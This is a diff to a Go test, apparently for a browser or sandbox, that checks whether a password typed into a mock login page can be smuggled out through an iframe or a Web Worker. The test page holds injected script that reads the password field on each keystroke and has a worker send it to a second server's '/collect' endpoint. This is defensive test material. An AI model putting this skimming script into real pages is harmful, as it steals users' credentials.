@@ -260,10 +260,7 @@ func TestSecretCannotLeaveThroughAFrameOrAWorker(t *testing.T) {
 					script = `<iframe id="f" src="` + frame + `"></iframe><script>
 const pw = document.getElementById('pw');
 const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => fetch('` + other.URL + `/collect?via=worker&p=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})"])));
-pw.addEventListener('input', () => {
-  if ('` + via + `' === 'frame') document.getElementById('f').contentWindow.postMessage(pw.value, '*');
-  else w.postMessage(pw.value);
-});
+pw.addEventListener('input', () => w.postMessage(pw.value));
 </script>`
 				}
 				return `<title>login</title><label>Password <input id="pw" type="password"></label><button type="button">Sign in</button><p>Hello</p>` + script
